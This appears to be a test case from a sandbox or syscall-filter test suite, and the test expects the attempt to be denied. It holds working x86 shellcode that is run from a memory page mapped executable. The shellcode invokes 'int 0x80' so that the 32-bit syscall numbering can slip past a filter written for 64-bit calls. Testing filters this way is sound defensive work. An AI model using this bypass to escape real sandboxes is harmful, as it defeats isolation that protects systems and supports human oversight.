# /// expected
# group = "kernel"
# ending = ["EXITED", "SIGNALLED"]
# denied = true
# machine = "x86_64"
# ///
"""Calls the kernel through int 0x80, whose numbers mean other things than the filter's."""

import ctypes
import mmap
import os

from trying import managed


def attack(**_):
    return managed(
        getpid_by_interrupt=lambda: interrupt(20, os.getpid()), mkdir_by_interrupt=lambda: interrupt(39, None)
    )


def interrupt(number, expected):
    code = b"\x53\xb8" + number.to_bytes(4, "little") + b"\x31\xdb\x31\xc9\xcd\x80\x5b\xc3"
    area = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    area.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(area))
    pid = os.fork()
    if pid == 0:
        answer = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        os._exit(0 if answer == os.getpid() or (expected is None and answer == -14) else 1)
    if os.waitpid(pid, 0)[1]:
        raise OSError("refused")
